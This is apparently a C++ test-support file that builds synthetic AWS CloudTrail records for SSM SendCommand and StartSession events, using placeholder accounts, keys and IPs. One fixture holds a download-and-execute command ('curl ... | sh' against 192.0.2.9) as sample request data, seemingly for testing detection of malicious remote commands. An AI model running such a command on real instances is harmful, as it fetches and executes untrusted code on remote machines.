#include "tests/support/trail_records.hpp"

namespace stemma::support {

TrailRecord trail_record(const std::string& source, const std::string& name) {
  return {{"eventVersion", "1.08"},
          {"userIdentity",
           {{"type", "IAMUser"},
            {"principalId", "AIDAEXAMPLE"},
            {"arn", "arn:aws:iam::111122223333:user/ada"},
            {"accountId", "111122223333"},
            {"accessKeyId", "AKIAEXAMPLE"},
            {"userName", "ada"}}},
          {"eventTime", "2026-05-12T09:14:02Z"},
          {"eventSource", source},
          {"eventName", name},
          {"awsRegion", "eu-west-1"},
          {"sourceIPAddress", "192.0.2.7"},
          {"userAgent", "aws-cli/2.15"},
          {"requestParameters", nullptr},
          {"responseElements", nullptr},
          {"requestID", "33333333-095c-47d0-a96f-a75130c61d53"},
          {"eventID", "22222222-095c-47d0-a96f-a75130c61d53"},
          {"readOnly", false},
          {"eventType", "AwsApiCall"},
          {"managementEvent", true},
          {"recipientAccountId", "111122223333"},
          {"eventCategory", "Management"}};
}

TrailRecord send_command(const std::string& command_id, bool hidden) {
  TrailRecord record = trail_record("ssm.amazonaws.com", "SendCommand");
  TrailRecord parameters = {{"commands", {"id", "curl -s http://192.0.2.9/x | sh"}}};
  if (hidden) parameters = "HIDDEN_DUE_TO_SECURITY_REASONS";
  record["requestParameters"] = {{"documentName", "AWS-RunShellScript"},
                                 {"instanceIds", {"i-0aaa", "i-0bbb"}},
                                 {"parameters", parameters}};
  record["responseElements"] = {{"command",
                                 {{"commandId", command_id},
                                  {"documentName", "AWS-RunShellScript"},
                                  {"instanceIds", {"i-0aaa", "i-0bbb"}},
                                  {"status", "Pending"}}}};
  return record;
}

TrailRecord start_session(const std::string& session_id) {
  TrailRecord record = trail_record("ssm.amazonaws.com", "StartSession");
  record["requestParameters"] = {{"target", "i-0aaa"}};
  record["responseElements"] = {{"sessionId", session_id}, {"tokenValue", "Value hidden"}};
  return record;
}

std::string as_trail(const std::vector<TrailRecord>& records, int indent) {
  TrailRecord list = TrailRecord::array();
  for (const TrailRecord& record : records) list.push_back(record);
  return TrailRecord({{"Records", list}}).dump(indent);
}

std::string as_trail_lines(const std::vector<TrailRecord>& records) {
  std::string out;
  for (const TrailRecord& record : records) out += record.dump() + "\n";
  return out;
}

std::string as_lookup(const std::vector<TrailRecord>& records) {
  TrailRecord list = TrailRecord::array();
  for (const TrailRecord& record : records)
    list.push_back({{"EventId", record["eventID"]},
                    {"EventName", record["eventName"]},
                    {"CloudTrailEvent", record.dump()}});
  return TrailRecord({{"Events", list}, {"NextToken", "x"}}).dump(4);
}

}  // namespace stemma::support
